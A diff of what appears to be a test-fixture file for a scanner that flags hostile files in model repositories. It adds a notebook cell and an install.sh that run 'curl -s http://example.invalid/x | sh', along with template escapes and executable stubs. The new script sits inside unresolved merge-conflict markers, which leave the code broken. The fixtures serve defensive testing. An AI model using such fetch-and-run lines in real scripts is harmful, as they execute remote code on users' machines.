@@ -83,7 +83,7 @@ def bad() -> Shelf:
     add("requirements", "requirements from elsewhere", {"requirements.txt": b"--extra-index-url http://example.invalid/simple\nwaag-inert\n"})
     add("setup-py", "a setup.py that runs on install", {"setup.py": PAYLOAD})
     add("notebook", "a notebook with a shell line", {"demo.ipynb": js({"cells": [{"cell_type": "code", "metadata": {}, "outputs": [],
-        "source": ["!echo waag-inert | sh\n"]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})})
+        "source": ["!curl -s http://example.invalid/x | sh\n"]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})})
     add("tokenizer-template", "a bad template in tokenizer_config.json", {"tokenizer_config.json":
         js(TOKENIZER_CONFIG | {"chat_template": ESCAPES["cycler-globals"]})}, "deny")
     add("chat-template-jinja", "a bad chat_template.jinja", {"chat_template.jinja": ESCAPES["lipsum-globals"].encode()}, "deny")
@@ -124,6 +124,10 @@ def bad() -> Shelf:
     add("adapter-auto-mapping", "an adapter that imports a class by name", {"adapter_config.json":
         js({"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}, "base_model_name_or_path": "example/base"})}, "deny")
     add("executable", "a program", {"tools/run": Executable(b"\x7fELF\x02\x01\x01" + bytes(120))}, "deny")
+<<<<<<< HEAD
+=======
+    add("shell-script", "a shell script that fetches and runs", {"install.sh": Executable(b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n")})
+>>>>>>> source
     add("windows-program", "a Windows program", {"setup.exe": b"MZ" + bytes(200)}, "deny")
     add("shared-library", "a shared library as custom operators", {"ops/waag.so": b"\x7fELF\x02\x01\x01" + bytes(120)}, "deny")
     add("name-terminal-escape", "a file name with a terminal escape", {"ok\x1b[2K\x1b[1Gclean.bin": inert_pickle()}, "deny")
